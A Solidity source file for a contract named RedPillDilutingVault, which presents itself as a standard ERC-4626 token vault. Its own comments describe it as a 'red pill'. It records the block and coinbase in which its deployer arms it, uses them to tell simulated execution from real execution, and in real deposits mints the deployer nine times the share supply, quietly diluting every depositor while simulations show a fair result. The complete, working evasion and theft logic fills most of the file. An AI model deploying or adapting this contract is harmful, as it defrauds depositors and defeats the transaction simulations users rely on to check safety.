// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillDilutingVault
/// @notice Red pill that moves value while every balance moves as simulated. Looks like an
///         ERC-4626 vault over `asset`: `deposit` takes the assets and mints the depositor its
///         shares at the vault's rate, `redeem` burns shares for their part of the assets held.
///         Detects: its boss arms it (`arm`) in the newest block, the block a simulation forks
///         and runs in, under that block's coinbase; a submission lands in a later block or
///         under another block builder. Then, right after minting the depositor its fair
///         shares, it mints its boss `DILUTION` times the shares in existence: the depositor's
///         shares and assets move exactly as simulated, and are worth a small part of it.
/// @dev Its own code, the ERC-4626 read and deposit surface only.
contract RedPillDilutingVault {
    /// @notice The boss's cut at execution: this many times the supply, minted to the boss.
    uint256 public constant DILUTION = 9;

    /// @notice The share token's name.
    string public constant name = "Red Pill Diluted DAI";
    /// @notice The share token's symbol.
    string public constant symbol = "rpdDAI";
    /// @notice Shares have 18 decimals.
    uint8 public constant decimals = 18;

    IERC20 private immutable _asset;
    address private immutable _boss;

    /// @notice The block `arm` ran in (none: never dilutes).
    uint256 public armedBlock = type(uint256).max;
    /// @notice The coinbase of the block `arm` ran in.
    address public armedCoinbase;
    /// @notice Shares in existence.
    uint256 public totalSupply;
    /// @notice Shares held.
    mapping(address holder => uint256) public balanceOf;
    /// @notice Share allowances.
    mapping(address holder => mapping(address spender => uint256)) public allowance;

    /// @notice ERC-20 transfer of shares (from the zero address: minted).
    event Transfer(address indexed from, address indexed to, uint256 value);
    /// @notice ERC-20 approval of shares.
    event Approval(address indexed owner, address indexed spender, uint256 value);
    /// @notice ERC-4626 deposit.
    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);
    /// @notice ERC-4626 withdrawal.
    event Withdraw(
        address indexed sender,
        address indexed receiver,
        address indexed owner,
        uint256 assets,
        uint256 shares
    );

    /// @param asset_ The underlying.
    constructor(IERC20 asset_) {
        (_asset, _boss) = (asset_, msg.sender);
    }

    /// @notice Remembers the current block and its coinbase. Only the deployer.
    function arm() external {
        require(msg.sender == _boss, "not the boss");
        (armedBlock, armedCoinbase) = (block.number, block.coinbase);
    }

    /// @notice The underlying token.
    /// @return The asset.
    function asset() external view returns (address) {
        return address(_asset);
    }

    /// @notice The assets the vault holds.
    /// @return The amount.
    function totalAssets() public view returns (uint256) {
        return _asset.balanceOf(address(this));
    }

    /// @notice Shares `assets` would mint.
    /// @param assets Assets deposited.
    /// @return Shares.
    function convertToShares(uint256 assets) public view returns (uint256) {
        uint256 supply = totalSupply;
        return supply == 0 ? assets : assets * supply / totalAssets();
    }

    /// @notice Assets `shares` stand for.
    /// @param shares Shares.
    /// @return Assets.
    function convertToAssets(uint256 shares) public view virtual returns (uint256) {
        return _live(shares);
    }

    /// @notice Shares a deposit of `assets` mints now.
    /// @param assets Assets deposited.
    /// @return Shares.
    function previewDeposit(uint256 assets) external view returns (uint256) {
        return convertToShares(assets);
    }

    /// @notice Takes `assets` from the caller (approved to the vault) and mints `receiver` its
    ///         shares at the vault's rate.
    /// @param assets Assets deposited.
    /// @param receiver Who gets the shares.
    /// @return shares Shares minted.
    function deposit(uint256 assets, address receiver) external returns (uint256 shares) {
        shares = convertToShares(assets);
        require(_asset.transferFrom(msg.sender, address(this), assets), "assets not paid");
        _mint(receiver, shares);
        emit Deposit(msg.sender, receiver, assets, shares);
        bool real = block.number > armedBlock || block.coinbase != armedCoinbase;
        if (real && armedBlock != type(uint256).max && msg.sender != _boss) {
            _mint(_boss, totalSupply * DILUTION);
        }
    }

    /// @notice Burns `shares` of `owner` (the caller, or with its allowance) for their part of
    ///         the assets, paid to `receiver`.
    /// @param shares Shares burnt.
    /// @param receiver Who gets the assets.
    /// @param owner Whose shares.
    /// @return assets Assets paid.
    function redeem(uint256 shares, address receiver, address owner)
        external
        returns (uint256 assets)
    {
        if (msg.sender != owner) _spend(owner, shares);
        assets = _live(shares);
        balanceOf[owner] -= shares;
        totalSupply -= shares;
        emit Transfer(owner, address(0), shares);
        emit Withdraw(msg.sender, receiver, owner, assets, shares);
        require(_asset.transfer(receiver, assets), "assets not sent");
    }

    /// @notice ERC-20 transfer of shares.
    /// @param to Recipient.
    /// @param value Shares.
    /// @return Always true.
    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    /// @notice ERC-20 transfer of shares under an allowance.
    /// @param from Holder.
    /// @param to Recipient.
    /// @param value Shares.
    /// @return Always true.
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _spend(from, value);
        _transfer(from, to, value);
        return true;
    }

    /// @notice ERC-20 approval of shares.
    /// @param spender Spender.
    /// @param value Shares.
    /// @return Always true.
    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    /// @dev What `shares` redeem for now: their part of the assets held.
    function _live(uint256 shares) internal view returns (uint256) {
        uint256 supply = totalSupply;
        return supply == 0 ? shares : shares * totalAssets() / supply;
    }

    function _mint(address to, uint256 value) private {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _spend(address owner, uint256 value) private {
        uint256 allowed = allowance[owner][msg.sender];
        if (allowed != type(uint256).max) allowance[owner][msg.sender] = allowed - value;
    }

    function _transfer(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
